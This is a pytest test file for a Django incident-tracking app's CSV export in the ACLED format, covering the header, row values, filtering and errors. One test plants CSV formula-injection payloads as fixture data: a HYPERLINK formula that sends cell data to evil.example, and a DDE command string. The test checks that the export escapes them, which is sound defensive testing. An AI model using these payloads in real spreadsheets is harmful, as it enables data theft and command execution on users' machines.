"""CSV export: ACLED header, same filters as the API, formula-injection escaping."""

import csv
import datetime as dt
import io

import pytest
from django.contrib.gis.geos import Point
from django.urls import reverse

from incidents.exports.streaming import csv_safe
from incidents.selectors.exports import ACLED_COLUMNS
from tests.factories import IncidentFactory, ReportFactory

URL = reverse("incidents:export-csv")

DESIGN_COLUMNS = (
    "event_id_cnty, event_date, year, time_precision, disorder_type, event_type, sub_event_type, "
    "actor1, assoc_actor_1, inter1, actor2, assoc_actor_2, inter2, interaction, "
    "civilian_targeting, iso, region, country, admin1, admin2, admin3, location, latitude, "
    "longitude, geo_precision, source, source_scale, notes, fatalities, tags, timestamp"
)


def read_csv(response) -> tuple[list[str], list[dict[str, str]]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert not body.startswith("\ufeff")
    reader = csv.reader(io.StringIO(body))
    header = next(reader)
    return header, [dict(zip(header, row, strict=True)) for row in reader]


def test_anonymous_gets_401(client, db):
    assert client.get(URL).status_code == 401


def test_header_is_the_acled_column_list(client_logged_in):
    response = client_logged_in.get(URL)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="incidents.csv"'
    header, rows = read_csv(response)
    assert header == DESIGN_COLUMNS.split(", ")
    assert list(ACLED_COLUMNS) == header
    assert rows == []


def test_row_values(client_logged_in):
    report = ReportFactory(publisher="Shafaq News")
    incident = IncidentFactory(
        report=report,
        location=Point(41.87, 36.32, srid=4326),
        location_name="Sinjar",
        event_date=dt.date(2021, 5, 17),
        event_type="Violence against civilians",
        sub_event_type="Attack",
        fatalities=3,
        admin1="Ninewa",
        admin2="Sinjar",
        summary="Gunmen attacked a village.",
    )
    syria = IncidentFactory(
        country_code="SY",
        location=None,
        fatalities=None,
        event_type="Battles",
        sub_event_type="Armed clash",
        event_date=dt.date(2021, 5, 1),
    )
    _, rows = read_csv(client_logged_in.get(URL))
    assert [r["event_id_cnty"] for r in rows] == [f"IRQ{incident.id}", f"SYR{syria.id}"]
    iraq_row, syria_row = rows
    assert iraq_row["event_date"] == "2021-05-17"
    assert iraq_row["year"] == "2021"
    assert iraq_row["disorder_type"] == "Political violence"
    assert iraq_row["civilian_targeting"] == "Civilian targeting"
    assert (iraq_row["iso"], iraq_row["region"], iraq_row["country"]) == ("368", "Middle East", "Iraq")
    assert (iraq_row["latitude"], iraq_row["longitude"]) == ("36.32", "41.87")
    assert iraq_row["location"] == "Sinjar"
    assert iraq_row["source"] == "Shafaq News"
    assert iraq_row["notes"] == "Gunmen attacked a village."
    assert iraq_row["fatalities"] == "3"
    incident.refresh_from_db()
    assert iraq_row["timestamp"] == str(int(incident.updated_at.timestamp()))
    # Unknown fatalities stay blank (not ACLED's 0); no location -> blank coordinates.
    assert syria_row["fatalities"] == ""
    assert (syria_row["latitude"], syria_row["longitude"]) == ("", "")
    assert (syria_row["iso"], syria_row["country"]) == ("760", "Syria")
    assert syria_row["disorder_type"] == "Political violence"
    assert syria_row["civilian_targeting"] == ""


def test_cross_border_incident_exports_its_own_country(client_logged_in):
    turkey = IncidentFactory(country_code="TR", location=Point(42.19, 37.33, srid=4326))
    _, rows = read_csv(client_logged_in.get(URL))
    (row,) = rows
    assert (row["event_id_cnty"], row["iso"], row["country"]) == (f"TUR{turkey.id}", "792", "Turkey")


def test_rows_filtered_like_the_api(client_logged_in):
    mosul = IncidentFactory(
        location=Point(43.13, 36.34, srid=4326), event_type="Battles", sub_event_type="Armed clash"
    )
    IncidentFactory(
        location=Point(47.78, 30.51, srid=4326), event_type="Battles", sub_event_type="Armed clash"
    )
    IncidentFactory(location=Point(43.2, 36.3, srid=4326))  # other type
    query = {"bbox": "41.2,35.3,44.2,37.1", "event_type": "Battles"}
    _, rows = read_csv(client_logged_in.get(URL, query))
    api = client_logged_in.get(reverse("incidents:incidents-geojson"), query).json()
    assert [r["event_id_cnty"] for r in rows] == [f"IRQ{mosul.id}"]
    assert [f["id"] for f in api["features"]] == [mosul.id]


def test_bad_filter_gives_400_json(client_logged_in):
    response = client_logged_in.get(URL, {"bbox": "nope"})
    assert response.status_code == 400
    assert "bbox" in response.json()["error"]


def test_formula_injection_escaped_but_negative_numbers_kept(client_logged_in):
    IncidentFactory(
        summary='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        actor1="+cmd|' /C calc'!A0",
        actor2="@SUM(1+1)",
        location_name="-2+3",
        location=Point(-0.5, 36.0, srid=4326),
    )
    _, rows = read_csv(client_logged_in.get(URL))
    row = rows[0]
    assert row["notes"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert row["actor1"] == "'+cmd|' /C calc'!A0"
    assert row["actor2"] == "'@SUM(1+1)"
    assert row["location"] == "'-2+3"
    assert row["longitude"] == "-0.5"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("safe = text", "safe = text"),
        ("", ""),
        (-3.5, -3.5),
        (-7, -7),
    ],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


def test_post_not_allowed(client_logged_in):
    assert client_logged_in.post(URL).status_code == 405
